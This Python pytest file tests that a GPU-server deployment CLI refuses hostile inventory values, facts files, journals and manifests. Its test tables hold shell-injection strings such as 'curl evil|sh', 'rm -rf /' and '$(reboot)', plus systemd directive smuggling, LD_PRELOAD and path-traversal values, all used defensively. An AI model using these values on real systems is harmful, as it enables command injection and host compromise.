"""Bad input, as a hostile or careless operator gives it (issue 10): inventory values, facts folders,
journals and the host programs' arguments.

Every case asserts: exit code 2, no traceback, the message names the variable or file and says what
to do, and no planted secret in any output. Inventory values are refused by the preflight's own
``load_settings`` (the deploy raises before pyinfra runs any operation: ``test_deploy_refuses_*``).
The injection cases are also rendered through the real templates and the command builders the roles
call, with validation bypassed, to show that the second wall (quoting/escaping) holds on its own.
"""

from __future__ import annotations

import gzip
import json
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from mineru_fleet import cli
from mineru_fleet.paths import EXAMPLE_HOSTS
from tests.conftest import FIXTURES, REPO

SEED = EXAMPLE_HOSTS / "seed-2x2080ti"
H100 = EXAMPLE_HOSTS / "h100-1x"
SECRET = "sk-PLANTED-5ecr3t-0f-the-operator"
COUNT: dict[str, int] = {}


def run_cli(capsys, *argv: str) -> tuple[int, str, str]:
    """``mineru-fleet ARGV`` in this process: (exit code, stdout, stderr); argparse's exit counts as a code."""
    try:
        rc = cli.main(list(argv))
    except SystemExit as e:
        rc = e.code if isinstance(e.code, int) else 2
    out, err = capsys.readouterr()
    return rc, out, err


def assert_refused(rc: int, out: str, err: str, *needles: str) -> None:
    text = out + err
    assert rc == 2, f"exit {rc}\n{text[-2000:]}"
    assert "Traceback" not in text, text[-2000:]
    assert SECRET not in text, "a planted secret was printed"
    for n in needles:
        assert n in text, f"{n!r} not in:\n{text[-2000:]}"


# ------------------------------------------------------------------------------------------------
# inventory values: (variable after mineru_, value as given to --data, words the message must hold)
# "fix" needles are words of the suggested fix (an example, "use ...", "set ...", "write ...").
# ------------------------------------------------------------------------------------------------

J = json.dumps
INVENTORY_CASES = [
    # host paths: absolute, normalised, safe characters
    ("install_dir", "/opt/my fleet", ["mineru_install_dir", "whitespace"]),
    ("install_dir", "opt/mineru", ["mineru_install_dir", "absolute"]),
    ("install_dir", "/opt/../etc", ["mineru_install_dir", "normalised", "write '/etc'"]),
    ("install_dir", "/opt/mineru/", ["mineru_install_dir", "write '/opt/mineru'"]),
    ("install_dir", "/", ["mineru_install_dir", "e.g. /opt/mineru-fleet"]),
    ("install_dir", "/opt/a;b", ["mineru_install_dir", "may contain only"]),
    ("install_dir", "/opt/$(id)", ["mineru_install_dir", "may contain only"]),
    ("install_dir", "/opt/%n", ["mineru_install_dir", "may contain only"]),
    ("install_dir", J("/opt/x\nExecStartPre=+/bin/sh -c id"), ["mineru_install_dir", "control characters"]),
    ("install_dir", "/opt/it's", ["mineru_install_dir", "no quotes"]),
    ("state_dir", "/var/lib/my state", ["mineru_state_dir", "whitespace"]),
    ("state_dir", J("/var/lib/x\nExecStartPre=+/bin/sh"), ["mineru_state_dir", "control characters"]),
    ("state_dir", "var/lib", ["mineru_state_dir", "absolute"]),
    ("state_dir", "/var//lib", ["mineru_state_dir", "write '/var/lib'"]),
    ("state_dir", "/var/lib/`id`", ["mineru_state_dir", "may contain only"]),
    ("model_dir", "/srv/my models", ["mineru_model_dir", "whitespace"]),
    ("model_dir", "/m", ["mineru_model_dir", "folder inside a folder"]),
    ("model_dir", "models/x", ["mineru_model_dir", "absolute"]),
    ("model_fetch_python", "/usr/bin/python3 -c 'import os'", ["mineru_model_fetch_python", "whitespace"]),
    ("model_fetch_python", "python3", ["mineru_model_fetch_python", "absolute"]),
    # the account the server runs as
    ("service_user", "root", ["mineru_service_user", "system account", "e.g. 'mineru'"]),
    ("service_user", "nobody", ["mineru_service_user", "system account"]),
    ("service_user", "daemon", ["mineru_service_user", "system account"]),
    ("service_user", "Mineru", ["mineru_service_user", "lowercase", "e.g. 'mineru'"]),
    ("service_user", J("mineru\nExecStartPre=+/bin/sh"), ["mineru_service_user", "lowercase"]),
    ("service_user", "a b", ["mineru_service_user", "lowercase"]),
    ("service_user", "-rf", ["mineru_service_user", "lowercase"]),
    ("service_user", "x" * 40, ["mineru_service_user", "32 characters"]),
    ("service_user", "0day", ["mineru_service_user", "starting with a letter"]),
    # bind address and port
    ("host", "0.0.0.0 --trust-remote-code", ["mineru_host", "IP address"]),
    ("host", "1.2.3.4;id", ["mineru_host", "IP address"]),
    ("host", J(""), ["mineru_host", "e.g. 0.0.0.0"]),
    ("host", "-h", ["mineru_host", "IP address"]),
    ("host", "http://x", ["mineru_host", "IP address"]),
    ("port", "80", ["mineru_port", "1024..65535"]),
    ("port", "70000", ["mineru_port", "1024..65535"]),
    ("port", "abc", ["mineru_port", "integer"]),
    # names that reach the command line
    ("served_model_name", 'a"b', ["mineru_served_model_name", "no spaces or quotes"]),
    ("served_model_name", "a b", ["mineru_served_model_name", "e.g. 'mineru2.5'"]),
    ("served_model_name", "x'--api-key=1", ["mineru_served_model_name", "no spaces or quotes"]),
    ("served_model_name", J(""), ["mineru_served_model_name", "e.g. 'mineru2.5'"]),
    # URLs and hub addresses
    ("wheel_find_links", "http://x/;rm -rf /", ["mineru_wheel_find_links", "http(s) URL"]),
    ("wheel_find_links", "http://x/$(id)", ["mineru_wheel_find_links", "http(s) URL"]),
    ("wheel_find_links", "ftp://x/", ["mineru_wheel_find_links", "e.g. 'http://10.0.0.1:8000/wheels/'"]),
    ("wheel_find_links", "http://x:99999/", ["mineru_wheel_find_links", "1..65535"]),
    ("wheel_find_links", "wheels/", ["mineru_wheel_find_links", "absolute folder"]),
    ("wheel_find_links", "http://x/a'b", ["mineru_wheel_find_links", "no quotes"]),
    ("modelscope_domain", "https://hub.example", ["mineru_modelscope_domain", "no scheme", "e.g. 'www.modelscope.cn'"]),
    ("modelscope_domain", "hub:0", ["mineru_modelscope_domain", "1..65535"]),
    ("modelscope_domain", "hub/path", ["mineru_modelscope_domain", "no scheme"]),
    ("modelscope_domain", "hub x", ["mineru_modelscope_domain", "spaces"]),
    ("modelscope_domain", "[zz]:1", ["mineru_modelscope_domain", "IPv6"]),
    ("modelscope_host_domain", "a;b", ["mineru_modelscope_host_domain", "HOST[:PORT]"]),
    # ModelScope ids and revisions
    ("model_id", "nope", ["mineru_model_id", "OWNER/NAME", "e.g. 'OpenDataLab/MinerU2.5-2509-1.2B'"]),
    ("model_id", "../../etc", ["mineru_model_id", "OWNER/NAME"]),
    ("model_id", "a/b c", ["mineru_model_id", "OWNER/NAME"]),
    ("model_id", "a/b;id", ["mineru_model_id", "OWNER/NAME"]),
    ("model_revision", "../x", ["mineru_model_revision", "e.g. 'v1.0.0'"]),
    ("model_revision", "v1 --x", ["mineru_model_revision", "e.g. 'v1.0.0'"]),
    ("model_revision", "-rf", ["mineru_model_revision", "e.g. 'v1.0.0'"]),
    ("model_revision", "a'b", ["mineru_model_revision", "e.g. 'v1.0.0'"]),
    ("model_allow_patterns", J(["*'; rm -rf /; '"]), ["mineru_model_allow_patterns", "no spaces or quotes", "e.g. '*.safetensors'"]),
    ("model_ignore_patterns", J(["-x"]), ["mineru_model_ignore_patterns", "not starting with -"]),
    ("model_allow_patterns", J("*.json"), ["mineru_model_allow_patterns", "list"]),
    # environment of the server
    ("extra_env", J({"HF_TOKEN": SECRET}), ["mineru_extra_env", "HF_TOKEN looks like a secret", "set it on the controller"]),
    ("extra_env", J({"A\nLD_PRELOAD": "x"}), ["mineru_extra_env", "not an environment variable name"]),
    ("extra_env", J({"A=B": "x"}), ["mineru_extra_env", "not an environment variable name"]),
    ("extra_env", J({"1A": "x"}), ["mineru_extra_env", "not starting with a digit"]),
    ("extra_env", J({"OK": f"x\nLD_PRELOAD=/tmp/{SECRET}.so"}), ["mineru_extra_env", "the value of OK", "one line"]),
    ("extra_env", J({"MINERU_VLLM_ARGS": "--x"}), ["mineru_extra_env", "use mineru_extra_args"]),
    ("extra_env", J({"AWS_SECRET_ACCESS_KEY": SECRET}), ["mineru_extra_env", "looks like a secret"]),
    ("extra_env", J({"DB_PASSWORD": SECRET}), ["mineru_extra_env", "looks like a secret"]),
    ("extra_env", J({"ok": SECRET, "X": 1}), ["mineru_extra_env", "string"]),
    ("extra_env", "not-a-dict", ["mineru_extra_env", "dictionary"]),
    # extra server arguments: one argument each
    ("extra_args", J(["--api-key", SECRET]), ["mineru_extra_args", "passes a secret"]),
    ("extra_args", J(["--host", "0.0.0.0"]), ["mineru_extra_args", "use mineru_host"]),
    ("extra_args", J(["--port=1"]), ["mineru_extra_args", "use mineru_port"]),
    ("extra_args", J(["--trust-remote-code --enable-lora"]), ["mineru_extra_args", "separate items"]),
    ("extra_args", J(["a\nb"]), ["mineru_extra_args", "control character"]),
    ("extra_args", J([""]), ["mineru_extra_args", "drop it"]),
    ("extra_args", J(["--model", "/x"]), ["mineru_extra_args", "the model role"]),
    ("extra_args", J(["x\\y"]), ["mineru_extra_args", "backslash"]),
    ("extra_args", "--enforce-eager", ["mineru_extra_args", "list"]),
    # numbers and choices
    ("gpu_memory_utilization", "0", ["mineru_gpu_memory_utilization", "e.g. 0.5"]),
    ("gpu_memory_utilization", "1.5", ["mineru_gpu_memory_utilization", "(0, 1]"]),
    ("gpu_memory_utilization", "half", ["mineru_gpu_memory_utilization", "number"]),
    ("tensor_parallel_size", "0", ["mineru_tensor_parallel_size", "greater than or equal to 1"]),
    ("tensor_parallel_size", "1000", ["mineru_tensor_parallel_size", "less than or equal to 64"]),
    ("max_model_len", "1000000000000", ["mineru_max_model_len", "less than or equal to"]),
    ("max_model_len", "-1", ["mineru_max_model_len", "greater than or equal to 1"]),
    ("kv_cache_memory_bytes", "10", ["mineru_kv_cache_memory_bytes", "greater than or equal to"]),
    ("kv_cache_memory_bytes", str(10**18), ["mineru_kv_cache_memory_bytes", "less than or equal to"]),
    ("max_num_seqs", "0", ["mineru_max_num_seqs", "greater than or equal to 1"]),
    ("gpus", "0,0", ["mineru_gpus", "lists a GPU twice"]),
    ("gpus", "-1", ["mineru_gpus", "0..1023"]),
    ("gpus", "[]", ["mineru_gpus", "leave it unset"]),
    ("gpus", "5000", ["mineru_gpus", "0..1023"]),
    ("profile", "gpu", ["mineru_profile", "'auto', 'cuda' or 'cpu'"]),
    ("dtype", "int4", ["mineru_dtype", "'float16'"]),
    ("model_fetch_mode", "p2p", ["mineru_model_fetch_mode", "'controller' or 'host'"]),
    ("model_verify", "none", ["mineru_model_verify", "'record' or 'full'"]),
    ("model_verify", "FULL", ["mineru_model_verify", "'record' or 'full'"]),
    ("cpu_kvcache_space_gib", "0", ["mineru_cpu_kvcache_space_gib", "greater than or equal to 1"]),
    ("model_keep_revisions", "0", ["mineru_model_keep_revisions", "greater than or equal to 1"]),
    ("model_free_space_margin_mib", "-1", ["mineru_model_free_space_margin_mib", "greater than or equal to 0"]),
    ("vllm_use_v1", "maybe", ["mineru_vllm_use_v1", "boolean"]),
    ("enforce_eager", "maybe", ["mineru_enforce_eager", "boolean"]),
    # network exposure
    ("client_networks", J(["10.0.0.0/33"]), ["mineru_client_networks", "e.g. '10.20.0.0/16'"]),
    ("client_networks", J(["any; rm"]), ["mineru_client_networks", "not an IP address or network"]),
    ("balancers", J(["lb.example"]), ["mineru_balancers", "not an IP address or network"]),
    # controller paths
    ("modelscope_ca_bundle", J("ca\n.pem"), ["mineru_modelscope_ca_bundle", "control characters"]),
    ("model_cache_dir", J("  "), ["mineru_model_cache_dir", "without control characters"]),
    ("modelscope_token_file", J("/x\x1b]0;pwned\x07"), ["mineru_modelscope_token_file", "control characters"]),
    # names of ours with typos, and a token passed as a variable
    ("tensor_paralel_size", "2", ["mineru_tensor_paralel_size", "did you mean mineru_tensor_parallel_size?"]),
    ("modelscope_token", SECRET, ["mineru_modelscope_token", "unknown variable"]),
]


@pytest.mark.parametrize("key, value, needles", INVENTORY_CASES, ids=[f"{k}={v[:30]!r}" for k, v, _ in INVENTORY_CASES])
def test_inventory_value_is_refused(capsys, key, value, needles):
    rc, out, err = run_cli(capsys, "plan", "--facts", str(SEED), "--data", f"mineru_{key}={value}")
    assert_refused(rc, out, err, "seed-2x2080ti", *needles)
    assert out == "", "nothing planned for a refused inventory"


def test_inventory_cases_are_distinct_and_many():
    assert len({(k, v) for k, v, _ in INVENTORY_CASES}) == len(INVENTORY_CASES) >= 100


def test_secret_values_are_never_repeated_in_errors():
    from mineru_fleet.core.settings import SettingsError, load_settings

    for data in ({"mineru_extra_env": {"HF_TOKEN": SECRET}}, {"mineru_extra_args": ["--api-key", SECRET]},
                 {"mineru_extra_env": {"OK": SECRET + "\n"}}, {"mineru_extra_args": [SECRET + "\n"]}):
        with pytest.raises(SettingsError) as e:
            load_settings(data, "h")
        assert SECRET not in str(e.value) and SECRET not in repr(e.value.problems)


# ------------------------------------------------------------------------------------------------
# layouts that cannot start: refused by the plan (exit 2) with the fix
# ------------------------------------------------------------------------------------------------

PLAN_CASES = [
    (H100, ["mineru_kv_cache_memory_bytes=214748364800"], ["kv-cache-larger-than-gpu", "set mineru_kv_cache_memory_bytes"]),
    (H100, ["mineru_max_model_len=1000000"], ["max-model-len-too-long", "at most 32768"]),
    (SEED, ["mineru_gpus=3"], ["gpu-index", "set mineru_gpus to a subset"]),
    (SEED, ["mineru_tensor_parallel_size=3"], ["does not divide"]),
    (SEED, ["mineru_port=65535"], ["65535", "set a lower mineru_port"]),
]


@pytest.mark.parametrize("facts, data, needles", PLAN_CASES)
def test_layout_that_cannot_start_is_refused(capsys, facts, data, needles):
    argv = ["plan", "--facts", str(facts)]
    for d in data:
        argv += ["--data", d]
    assert_refused(*run_cli(capsys, *argv), *needles)


# ------------------------------------------------------------------------------------------------
# facts folders: malformed files name the file; hostile accounts are refused
# ------------------------------------------------------------------------------------------------


def _facts(tmp_path: Path, base: Path = SEED, name: str = "host1") -> Path:
    d = tmp_path / name
    shutil.copytree(base, d)
    return d


def _replace(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, 1))


def _passwd(line: str, rc: int = 0):
    def mutate(d: Path) -> None:
        with open(d / "extra.txt", "a") as f:
            f.write(f"### getent passwd mineru\n{line}\n### rc={rc}\n")
    return mutate


def _no_gpus(d: Path) -> None:
    (d / "query-gpu.csv").write_text("")


def _dup_gpu(d: Path) -> None:
    first = (d / "query-gpu.csv").read_text().splitlines()[0]
    (d / "query-gpu.csv").write_text(first + "\n" + first + "\n")


FACTS_CASES = [
    ("dup-gpu-index", _dup_gpu, [], ["query-gpu.csv", "listed more than once", "gather the facts again"]),
    ("query-gpu-5-fields", lambda d: (d / "query-gpu.csv").write_text("0, GPU-x, name, bus, 7.5\n"), [],
     ["query-gpu.csv:1", "expected 11"]),
    ("query-gpu-not-numbers", lambda d: _replace(d / "query-gpu.csv", "22528", "lots"), [], ["query-gpu.csv:1", "lots"]),
    ("query-gpu-binary", lambda d: (d / "query-gpu.csv").write_bytes(b"\x00\xff\xfe" * 40), [], ["query-gpu.csv"]),
    ("os-missing", lambda d: (d / "os.txt").unlink(), [], ["no os.txt", "cat /etc/os-release"]),
    ("os-empty", lambda d: (d / "os.txt").write_text(""), [], ["os.txt", "uname -r and nproc"]),
    ("os-nproc-garbage", lambda d: (d / "os.txt").write_text("ID=debian\n6.1.0\nmany\n"), [], ["os.txt", "nproc printed 'many'"]),
    ("free-garbage", lambda d: (d / "os.txt").write_text("ID=debian\n6.1.0\n8\nMem: lots of it\n"), [],
     ["os.txt cannot be read", "gather the facts again"]),
    ("route-garbage", lambda d: _replace(d / "extra.txt", "\t00000000\t", "\tZZZZ\t"), [],
     ["extra.txt (/proc/net/route", "gather the facts again"]),
    ("passwd-garbage", _passwd("mineru:x:abc:def:gecos:/home:/bin/sh"), [], ["getent passwd", "not numbers"]),
    ("service-user-is-root", _passwd("mineru:x:0:0:root:/root:/bin/bash"), [], ["service-user", "root", "set mineru_service_user"]),
    ("service-user-is-a-system-account", _passwd("mineru:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin"), [],
     ["service-user", "a system account", "did not create", "set mineru_service_user"]),
    ("service-user-is-a-person", _passwd("mineru:x:1000:1000:Alice:/home/alice:/bin/bash"), [],
     ["service-user", "an existing login account", "/home/alice"]),
    ("service-user-ours-elsewhere", _passwd("mineru:x:998:998::/var/lib/mineru-fleet/home:/usr/sbin/nologin"),
     ["mineru_state_dir=/srv/mf"], ["service-user", "did not create"]),
    ("cuda-without-gpus", _no_gpus, ["mineru_profile=cuda"], ["no-gpu", "set mineru_profile: cpu"]),
    ("gpus-without-nvidia-smi", lambda d: [(d / n).unlink() for n in ("query-gpu.csv", "driver-cuda.txt")], ["mineru_gpus=0"],
     ["no-nvidia-smi", "install the NVIDIA driver"]),
]


@pytest.mark.parametrize("label, mutate, data, needles", FACTS_CASES, ids=[c[0] for c in FACTS_CASES])
def test_bad_facts_folder_is_refused(capsys, tmp_path, label, mutate, data, needles):
    d = _facts(tmp_path)
    mutate(d)
    argv = ["plan", "--facts", str(d)]
    for x in data:
        argv += ["--data", x]
    assert_refused(*run_cli(capsys, *argv), *needles)


def test_our_own_service_account_is_accepted(capsys, tmp_path):
    d = _facts(tmp_path)
    _passwd("mineru:x:998:998::/var/lib/mineru-fleet/home:/usr/sbin/nologin")(d)
    rc, out, err = run_cli(capsys, "plan", "--facts", str(d))
    assert rc == 0, err


@pytest.mark.parametrize("where", ["/nonexistent/host", "README.md"])
def test_facts_folder_that_is_not_one(capsys, where):
    assert_refused(*run_cli(capsys, "plan", "--facts", str(REPO / where) if where == "README.md" else where), "no such facts folder")


def test_markup_and_terminal_sequences_from_facts_are_printed_harmlessly(capsys, tmp_path):
    """A facts folder named like rich markup and a host name with an OSC title sequence: accepted, printed literally/escaped."""
    d = _facts(tmp_path, name="[red]host[bold]")
    rc, out, err = run_cli(capsys, "plan", "--facts", str(d))
    assert rc == 0 and "[red]host[bold]: profile cuda" in out
    from mineru_fleet.core.render import plan_text
    from mineru_fleet.core.hostfacts import build_host_facts
    from mineru_fleet.controller.factsdir import read_facts_dir
    from mineru_fleet.core.planner import plan
    from mineru_fleet.core.settings import load_settings

    p = plan(build_host_facts("h\x1b]0;pwned\x07\x1bc", read_facts_dir(SEED)), load_settings({}, "h"))
    text = plan_text(p)
    assert "\x1b" not in text and "\x07" not in text and "\\x1b]0;pwned" in text


@pytest.mark.parametrize("extra", [[], ["--json"]])
def test_plan_into_a_closed_pipe_ends_quietly(extra):
    """`mineru-fleet plan | head -1`: no BrokenPipeError traceback."""
    r = subprocess.run(f"{shlex.quote(sys.executable)} -m mineru_fleet.cli plan --facts {shlex.quote(str(SEED))} {' '.join(extra)} | head -1",
                       shell=True, capture_output=True, text=True, cwd=REPO)
    assert "Traceback" not in r.stderr and "BrokenPipe" not in r.stderr, r.stderr
    assert r.stdout.strip()


@pytest.mark.parametrize("model_dir", ["/nonexistent/model", "README.md", "tests"])
def test_model_dir_that_is_no_model_folder(capsys, model_dir):
    assert_refused(*run_cli(capsys, "plan", "--facts", str(SEED), "--model-dir", model_dir), "--model-dir", "config.json")


@pytest.mark.parametrize("arg", ["oops", "=2", "mineru_port"])
def test_data_that_is_not_key_value(capsys, arg):
    assert_refused(*run_cli(capsys, "plan", "--facts", str(SEED), "--data", arg), "KEY=VALUE")


# ------------------------------------------------------------------------------------------------
# journals (diagnose --journal): unusable input is exit 2 with the file named
# ------------------------------------------------------------------------------------------------


def _journal_cases(tmp: Path) -> dict[str, Path]:
    ref = (FIXTURES / "logs" / "gpu-2x2080ti-reference.log").read_bytes()
    files = {
        "empty": b"",
        "binary": bytes(range(256)) * 20,
        "gzip": gzip.compress(ref),
        "latin1": "Überprüfung fehlgeschlagen \xe4\n".encode("latin-1") * 10,
        "not-vllm": b"Nov 30 10:00:00 host sshd[1]: Accepted publickey for root\n" * 50,
        "truncated": ref[: len(ref) // 3],
    }
    out = {}
    for name, data in files.items():
        p = tmp / f"{name}.log"
        p.write_bytes(data)
        out[name] = p
    return out


@pytest.mark.parametrize("case", ["empty", "binary", "gzip", "latin1", "not-vllm", "truncated", "missing", "folder"])
def test_unusable_journal_is_refused(capsys, tmp_path, case):
    paths = _journal_cases(tmp_path)
    path = {"missing": tmp_path / "nope.log", "folder": tmp_path}.get(case) or paths[case]
    rc, out, err = run_cli(capsys, "diagnose", "--journal", str(path))
    assert_refused(rc, out, err, str(path))


# ------------------------------------------------------------------------------------------------
# the host programs' arguments: modelfetch install (manifest paths stay inside the folder), ready
# ------------------------------------------------------------------------------------------------

FETCH = REPO / "mineru_fleet" / "onhost" / "modelfetch.py"
READY = REPO / "mineru_fleet" / "onhost" / "ready.py"


def _run_host_program(program: Path, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    import os

    return subprocess.run([sys.executable, "-I", str(program), *args], capture_output=True, text=True,
                          env={**os.environ, **(env or {})}, timeout=60)


def _manifest_case(tmp: Path, files) -> list[str]:
    staging, final = tmp / ".v1.partial", tmp / "v1"
    staging.mkdir()
    (staging / "a.json").write_text("{}")
    (tmp / "outside").write_text("secret of the host")
    manifest = tmp / "manifest.json"
    manifest.write_text(files if isinstance(files, str) else json.dumps({"files": files}))
    return ["install", "--manifest", str(manifest), "--staging", str(staging), "--final", str(final)]


def _entry(path, size=18, sha="0" * 64):
    return {"path": path, "size": size, "sha256": sha}


MANIFEST_CASES = [
    ("dotdot", [_entry("../outside")], "leaves the model folder"),
    ("absolute", [_entry("/etc/passwd")], "not a relative path"),
    ("inner-dotdot", [_entry("a/../../outside")], "leaves the model folder"),
    ("double-slash", [_entry("a//b")], "not normalised"),
    ("dot", [_entry("./a.json")], "not normalised"),
    ("empty-path", [_entry("")], "not a relative path"),
    ("control", [_entry("a\n.json")], "control character"),
    ("backslash", [_entry("..\\outside")], "not a relative path"),
    ("not-json", "{this is not json", "cannot be read as JSON"),
    ("a-list", "[]", "'files' list"),
    ("size-not-int", [_entry("a.json", size="2")], "no path/size"),
    ("negative-size", [_entry("a.json", size=-1)], "no path/size"),
    ("bad-sha", [_entry("a.json", sha="zz")], "64 hex digits"),
]


@pytest.mark.parametrize("label, files, needle", MANIFEST_CASES, ids=[c[0] for c in MANIFEST_CASES])
def test_modelfetch_install_refuses_bad_manifests(tmp_path, label, files, needle):
    args = _manifest_case(tmp_path, files)
    r = _run_host_program(FETCH, *args)
    assert r.returncode == 2, r.stderr
    assert needle in r.stderr and "Traceback" not in r.stderr
    assert not (tmp_path / "v1").exists(), "nothing installed"
    assert (tmp_path / "outside").read_text() == "secret of the host" and "secret of the host" not in r.stdout + r.stderr


@pytest.mark.parametrize("label, change, needle", [
    ("keep-0", ["--keep", "0"], "--keep 0"),
    ("staging-is-final", "same", "other than --final"),
    ("staging-missing", "missing", "must be an existing folder"),
    ("manifest-missing", "nomanifest", "cannot be read"),
    ("keep-not-a-number", ["--keep", "two"], "invalid int value"),
])
def test_modelfetch_install_refuses_bad_arguments(tmp_path, label, change, needle):
    args = _manifest_case(tmp_path, [_entry("a.json", size=2, sha=None)])
    if change == "same":
        args[args.index("--final") + 1] = args[args.index("--staging") + 1]
    elif change == "missing":
        args[args.index("--staging") + 1] = str(tmp_path / "nowhere")
    elif change == "nomanifest":
        args[args.index("--manifest") + 1] = str(tmp_path / "nowhere.json")
    else:
        args += change
    r = _run_host_program(FETCH, *args)
    assert r.returncode == 2 and needle in r.stderr and "Traceback" not in r.stderr, r.stderr


def test_modelfetch_refuses_a_readable_token_file_without_printing_it(tmp_path):
    tok = tmp_path / "token"
    tok.write_text(SECRET)
    tok.chmod(0o644)
    r = _run_host_program(FETCH, "resolve", "--model-id", "a/b", "--revision", "v1", "--token-file", str(tok))
    assert r.returncode == 2 and "chmod 600" in r.stderr and str(tok) in r.stderr
    assert SECRET not in r.stdout + r.stderr and "Traceback" not in r.stderr


@pytest.mark.parametrize("args_env, needle", [
    ("--port '30000", "cannot be split"),
    ("--port abc", "not a port number"),
    ("--model /m --port", "not a port number"),
    ("--port 99999", "not a port number"),
])
def test_ready_refuses_unreadable_vllm_args(args_env, needle):
    r = _run_host_program(READY, "--timeout", "0", env={"MINERU_VLLM_ARGS": args_env})
    assert r.returncode == 2 and needle in r.stderr and "redeploy" in r.stderr and "Traceback" not in r.stderr, r.stderr


@pytest.mark.parametrize("args, needle", [(["--url", "ftp://x"], "http(s) URL"), (["--timeout", "soon"], "invalid float value"),
                                          (["--pid", "me"], "invalid int value")])
def test_ready_refuses_bad_arguments(args, needle):
    r = _run_host_program(READY, *args)
    assert r.returncode == 2 and needle in r.stderr and "Traceback" not in r.stderr, r.stderr


# ------------------------------------------------------------------------------------------------
# the second wall: injection values rendered through the real templates and command builders with
# validation bypassed (Settings.model_construct): no injected word, line or directive
# ------------------------------------------------------------------------------------------------


def _settings(**over):
    from mineru_fleet.core.settings import DEFAULTS, Settings

    return Settings.model_construct(**{**DEFAULTS, **over})


def _seed_plan(settings=None):
    from mineru_fleet.controller.factsdir import load_host_facts
    from mineru_fleet.core.planner import plan

    return plan(load_host_facts(SEED), settings or _settings())


def _shell_words(cmd: str) -> list[str]:
    """The command's words and operators as a POSIX shell reads them (quotes removed, ; && || | as own tokens)."""
    lex = shlex.shlex(cmd, posix=True, punctuation_chars=True)
    lex.whitespace_split = True
    lex.commenters = ""  # a shell reads # as a comment only at the start of a word; none of ours starts so
    return list(lex)


def _with_inner_scripts(cmds: list[str]) -> list[str]:
    """Each command, followed by the script of every ``sh -c SCRIPT`` inside it (recursively), so a value
    quoted into an inner script is checked where that shell reads it too."""
    out = []
    for c in cmds:
        out.append(c)
        words = _shell_words(c)
        out += _with_inner_scripts([words[i + 2] for i in range(len(words) - 2) if words[i:i + 2] == ["sh", "-c"]])
    return out


def _operators(cmd: str) -> list[str]:
    return [w for w in _shell_words(cmd) if w and set(w) <= set(";&|<>()")]


INJECTIONS = {
    "install_dir": "/opt/my fleet",
    "state_dir": "/var/lib/x; rm -rf /",
    "wheel_find_links": "http://x/;curl evil|sh",
    "model_fetch_python": "/usr/bin/python3 -c 'import os; os.system(\"id\")'",
    "model_allow_patterns": ["*'; rm -rf / #"],
    "model_ignore_patterns": ["$(reboot)"],
    "model_revision": "v1 && reboot",
    "model_id": "a/b`id`",
}


#: the same shape without anything to inject (so both render the same number of words)
BENIGN = {"wheel_find_links": "http://x/wheels/", "model_allow_patterns": ["*.json"], "model_ignore_patterns": ["*.bin"]}
DEFAULTS_FOR_BENIGN = {"install_dir": "/opt/my-fleet", "state_dir": "/var/lib/x", "model_fetch_python": "/usr/bin/python3",
                       "model_revision": "v1", "model_id": "a/b"}


@pytest.mark.parametrize("key", sorted(INJECTIONS))
def test_role_commands_keep_each_value_one_word(key):
    from roles.model import host_fetch_command, install_command, record_command, repair_command
    from roles.runtime import release_steps
    from roles.verify import gate_command
    from mineru_fleet.controller import modelstore
    from mineru_fleet.core.units import paths

    value = INJECTIONS[key]
    evil, benign = _settings(**{key: value}), _settings(**{key: BENIGN.get(key, DEFAULTS_FOR_BENIGN.get(key))})
    p = _seed_plan()

    def commands(s):
        f = modelstore.folders(s, f"{s.state_dir}/models/{s.model_id}/{s.model_revision}")
        fetcher = f"{paths(s)['bin_dir']}/mineru-fleet-modelfetch"
        return _with_inner_scripts([
            release_steps(p, s, f"{paths(s)['releases']}/rel"), repair_command(f),
            host_fetch_command(s, {"MODELSCOPE_DOMAIN": "hub:1"}, fetcher, f["staging"], "/etc/t", keep_token=False),
            install_command(fetcher, f, s.model_keep_revisions), gate_command("0", 30000, s),
            record_command(fetcher, f), modelstore.state_command(f["final"], f["staging"], s.model_verify, "0" * 64)])

    for bad, good in zip(commands(evil), commands(benign)):
        assert _operators(bad) == _operators(good), f"an injected operator:\n{bad}"
        assert len(_shell_words(bad)) == len(_shell_words(good)), f"an injected word:\n{bad}"
    values = value if isinstance(value, list) else [value]
    for v in values:
        assert any(v in w for c in commands(evil) for w in _shell_words(c)), f"{v!r} is not kept as (part of) one word"
    benign_words = {w for c in commands(benign) for w in _shell_words(c)}
    for c in commands(evil):  # every word the value changed holds the whole value: nothing split off it
        for w in _shell_words(c):
            assert w in benign_words or any(v in w for v in values), f"word {w!r} split off an injected value in:\n{c}"


@pytest.mark.parametrize("key, value", [
    ("service_user", "mineru\nExecStartPre=+/bin/sh -c id"),
    ("state_dir", "/var/lib/x\nExecStartPre=+/bin/sh"),
    ("install_dir", "/opt/my fleet"),
    ("install_dir", "/opt/%n"),
    ("state_dir", "/var/lib/$USER"),
    ("service_user", "root root"),
])
def test_unit_refuses_what_systemd_would_misread(key, value):
    from mineru_fleet.core.units import RenderError, render_unit

    with pytest.raises(RenderError):
        render_unit(_seed_plan(), _settings(**{key: value}))


def test_unit_renders_validated_values_one_line_each():
    from mineru_fleet.core.units import render_unit

    good = render_unit(_seed_plan(), _settings())
    assert not [ln for ln in good.splitlines() if ln.startswith("ExecStartPre")]
    assert sum(1 for ln in good.splitlines() if ln.startswith("User=")) == 1


@pytest.mark.parametrize("env, ok", [
    ({"A\nLD_PRELOAD": "x"}, False),
    ({"A=B": "x"}, False),
    ({"OK": "x\nLD_PRELOAD=/tmp/evil.so"}, False),
    ({"OK": "x\rLD_PRELOAD=/tmp/evil.so"}, False),
    ({"OK": 'a "quoted" $HOME `id` \\ value'}, True),
])
def test_env_file_refuses_or_escapes(env, ok):
    from mineru_fleet.core.units import RenderError, parse_env_file, render_env_file

    sv = _seed_plan().servers[0]
    sv.env.update(env)
    if not ok:
        with pytest.raises(RenderError):
            render_env_file(sv, "seed")
        return
    text = render_env_file(sv, "seed")
    back = parse_env_file(text)
    assert back["OK"] == env["OK"] and "LD_PRELOAD" not in back


@pytest.mark.parametrize("value", ["0.0.0.0 --trust-remote-code", "it's \"quoted\"", "a b  c", "$MAINPID", "%i"])
def test_vllm_args_keep_one_value_one_argument(value):
    """What systemd's $MINERU_VLLM_ARGS split and the readiness gate (shlex) read back is exactly the plan's list."""
    from mineru_fleet.core.units import parse_env_file, render_env_file
    from mineru_fleet.onhost.ready import url_from_env

    sv = _seed_plan().servers[0]
